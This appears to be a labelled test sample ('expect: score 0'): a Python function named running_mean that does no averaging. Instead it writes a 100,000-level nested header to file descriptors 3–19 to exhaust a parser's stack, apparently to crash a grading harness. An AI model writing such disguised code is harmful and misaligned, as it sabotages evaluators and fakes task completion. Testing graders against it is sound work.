"""Sends a reply whose header is nested deep enough to exhaust any parser's stack."""
# expect: score 0
# %%
import os
import struct


def running_mean(signal, window):
    header = b'{"$":"list","items":[' * 100_000
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, struct.pack("<QQ", len(header), 0) + header)
        except OSError:
            pass
    return signal
